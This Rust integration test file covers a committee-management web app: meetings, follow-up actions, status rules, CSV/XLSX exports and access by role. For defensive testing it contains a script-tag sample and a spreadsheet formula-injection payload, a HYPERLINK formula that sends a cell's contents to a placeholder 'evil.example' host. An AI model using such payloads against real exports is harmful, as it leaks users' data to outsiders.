use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use pallay::auth::policy::Role;
use serde_json::json;

use crate::fund_helpers::day;
use crate::helpers::{spawn_app, PASSWORD};
use crate::training_helpers::{workshop, Workshop};

#[test]
fn a_secretary_records_a_meeting_and_its_agreements_and_follows_them_up() {
    let app = spawn_app();
    let admin = app.admin();
    let org = app.create_organization(&admin, "CECOMIP");
    let lucia = app.create_member(&admin, org, json!({"first_name": "Lucía"}))["id"]
        .as_i64()
        .unwrap();
    let secretary = app.create_user(Role::Coordinator, vec![org], None);
    let mut browser = app.browser();
    browser.login(&secretary.username, PASSWORD);

    let org_id = org.to_string();
    let created = browser.submit(
        "/committees",
        "/committees",
        &[("organization_id", &org_id), ("name", "Comité de equidad")],
    );
    assert_eq!(created.status, 303);
    let page = created.redirected_path();
    let lucia_id = lucia.to_string();
    let seat = browser.submit(
        &page,
        &format!("{page}/members"),
        &[
            ("member_id", &lucia_id),
            ("position", "secretaria"),
            ("term_start", "2026-01-01"),
        ],
    );
    assert_eq!(seat.status, 303);
    let seat_id = app.count("committee_members").to_string();
    let meeting_day = day(-20);
    let meeting = browser.submit(
        &page,
        &format!("{page}/meetings"),
        &[
            ("date", &meeting_day),
            ("place", "Putina"),
            ("minutes", "1. <script>x</script> acuerdo"),
            ("attendee_ids", &seat_id),
        ],
    );
    assert_eq!(meeting.status, 303);
    let shown = browser.get(&page);
    assert!(
        shown.body.contains("&#60;script&#62;") || shown.body.contains("&lt;script&gt;"),
        "minutes shown escaped"
    );

    let before_meeting = day(-25);
    let bad = browser.submit(
        &page,
        &format!("{page}/actions"),
        &[
            ("description", "Taller"),
            ("responsible_member_id", &lucia_id),
            ("due_date", &before_meeting),
            ("meeting_id", "1"),
        ],
    );
    assert_eq!(bad.status, 422);
    assert!(bad.body.contains("anterior a la reunión"), "{}", bad.body);
    // What she typed comes back: the responsible, the date and the meeting are not wiped.
    assert!(
        bad.body.contains(&format!("<option value=\"{lucia_id}\" selected>"))
            && bad
                .body
                .contains(&format!("name=\"due_date\" type=\"date\" value=\"{before_meeting}\""))
            && bad.body.contains("<option value=\"1\" selected>"),
        "the form keeps what was typed"
    );
    let due = day(-2);
    let ok = browser.submit(
        &page,
        &format!("{page}/actions"),
        &[
            ("description", "Taller de liderazgo"),
            ("responsible_member_id", &lucia_id),
            ("due_date", &due),
            ("meeting_id", "1"),
        ],
    );
    assert_eq!(ok.status, 303);
    let board = browser.get(&page);
    assert!(
        board.body.contains("class=\"overdue\"") && board.body.contains("vencido"),
        "the late action stands out"
    );

    // The page offers only the moves the rules allow (from pending: start it, or cancel it with a
    // reason); a forged skip is still refused.
    let action_page = browser.get("/actions/1").body;
    assert!(
        action_page.contains("value=\"in_progress\"")
            && action_page.contains("value=\"cancelled\"")
            && !action_page.contains("value=\"done\""),
        "only allowed moves"
    );
    assert!(action_page.contains("Cambiar el estado") && action_page.contains("Guardar la nota"));
    let skip = browser.submit("/actions/1", "/actions/1/status", &[("status", "done")]);
    assert_eq!(skip.status, 422);
    assert_eq!(
        browser
            .submit("/actions/1", "/actions/1/status", &[("status", "in_progress")])
            .status,
        303
    );
    assert_eq!(
        browser
            .submit("/actions/1", "/actions/1/notes", &[("text", "Se reservó el local")])
            .status,
        303
    );
    let with_note = browser.get("/actions/1").body;
    assert!(with_note.contains("Se reservó el local"));
    assert!(
        with_note.contains(&format!("· {}: Se reservó el local", secretary.username)),
        "a note shows who wrote it"
    );

    // Lucía sees the action on her own page.
    let account = app.create_user(Role::Member, vec![], Some(lucia));
    let mut herself = app.browser();
    herself.login(&account.username, PASSWORD);
    assert!(herself
        .get(&format!("/members/{lucia}"))
        .body
        .contains("Taller de liderazgo"));
    assert_eq!(herself.get(&page).status, 403);
}

#[test]
fn no_cell_of_a_downloaded_csv_is_a_formula() {
    let app = spawn_app();
    let admin = app.admin();
    let org = app.create_organization(&admin, "CECOMIP");
    let committee = admin
        .post("/api/v1/committees", &json!({"organization_id": org, "name": "Comité"}))
        .json()["id"]
        .as_i64()
        .unwrap();
    let evil = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Clic\")";
    let r = admin.post(
        &format!("/api/v1/committees/{committee}/actions"),
        &json!({"description": evil, "responsible_name": "@SUM(A1:A9)", "due_date": day(5)}),
    );
    assert_eq!(r.status, 201, "{}", r.body);
    let user = app.create_user(Role::GenderStaff, vec![], None);
    let mut browser = app.browser();
    browser.login(&user.username, PASSWORD);
    let (status, bytes) = browser.download(&format!("/committees/{committee}/actions.csv"));
    assert_eq!(status, 200);
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[1], format!("'{evil}"), "kept, as text");
    assert_eq!(&row[2], "'@SUM(A1:A9)");
    for record in csv::Reader::from_reader(bytes.as_slice()).records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }
}

#[test]
fn the_action_plan_exports_as_csv_and_as_a_real_spreadsheet() {
    let app = spawn_app();
    let admin = app.admin();
    let org = app.create_organization(&admin, "CECOMIP");
    let committee = admin
        .post("/api/v1/committees", &json!({"organization_id": org, "name": "Comité"}))
        .json()["id"]
        .as_i64()
        .unwrap();
    for (description, due) in [("Campaña, \"contra\" la violencia", -3), ("Guardería en la planta", 30)] {
        let r = admin.post(
            &format!("/api/v1/committees/{committee}/actions"),
            &json!({"description": description, "responsible_name": "Mario Apaza", "due_date": day(due)}),
        );
        assert_eq!(r.status, 201, "{}", r.body);
    }
    let user = app.create_user(Role::GenderStaff, vec![], None);
    let mut browser = app.browser();
    browser.login(&user.username, PASSWORD);

    let (status, csv_bytes) = browser.download(&format!("/committees/{committee}/actions.csv"));
    assert_eq!(status, 200);
    let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(headers[1], "Acuerdo");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][1], "Campaña, \"contra\" la violencia");
    assert_eq!(&rows[0][6], "sí", "overdue is marked");

    let (status, xlsx_bytes) = browser.download(&format!("/committees/{committee}/actions.xlsx"));
    assert_eq!(status, 200);
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx_bytes)).expect("a real XLSX");
    let sheet = workbook.worksheet_range("Plan de acción").expect("the sheet");
    assert_eq!(sheet.get_value((0, 0)), Some(&Data::String("Comité".into())));
    assert!(
        matches!(sheet.get_value((1, 0)), Some(Data::String(s)) if s.contains(&day(0))),
        "the date is on the sheet"
    );
    assert_eq!(sheet.get_value((3, 2)), Some(&Data::String("Responsable".into())));
    assert_eq!(
        sheet.get_value((4, 1)),
        Some(&Data::String("Campaña, \"contra\" la violencia".into()))
    );
    assert_eq!(sheet.get_value((5, 4)), Some(&Data::String("pendiente".into())));
    assert_eq!(browser.download(&format!("/committees/{committee}/actions.pdf")).0, 404);
}

#[test]
fn her_page_shows_her_actions_as_far_as_the_reader_reaches_their_committees() {
    // Lucía belongs to La Rinconada and CECOMIP.
    let Workshop {
        app,
        admin,
        rinconada,
        cecomip,
        both: lucia,
        ..
    } = workshop();
    for (org, description) in [(rinconada, "Botiquín para la cancha"), (cecomip, "Taller de liderazgo")] {
        let committee = admin
            .post(
                "/api/v1/committees",
                &json!({"organization_id": org, "name": "Comité de equidad"}),
            )
            .json()["id"]
            .as_i64()
            .unwrap();
        let action = admin.post(
            &format!("/api/v1/committees/{committee}/actions"),
            &json!({"description": description, "responsible_member_id": lucia, "due_date": day(20)}),
        );
        assert_eq!(action.status, 201, "{}", action.body);
    }
    let page_as = |role: Role, organizations: Vec<i64>, member: Option<i64>| {
        let account = app.create_user(role, organizations, member);
        let mut browser = app.browser();
        browser.login(&account.username, PASSWORD);
        let page = browser.get(&format!("/members/{lucia}"));
        assert_eq!(page.status, 200, "{}", page.body);
        page.body
    };
    let both = |page: &str| page.contains("Botiquín para la cancha") && page.contains("Taller de liderazgo");
    assert!(both(&page_as(Role::Admin, vec![], None)));
    assert!(
        both(&page_as(Role::Member, vec![], Some(lucia))),
        "she sees all of hers"
    );
    let coordinator = page_as(Role::Coordinator, vec![rinconada], None);
    assert!(coordinator.contains("Botiquín para la cancha"), "{coordinator}");
    assert!(
        !coordinator.contains("Taller de liderazgo"),
        "another organisation's committee stays its own"
    );
}
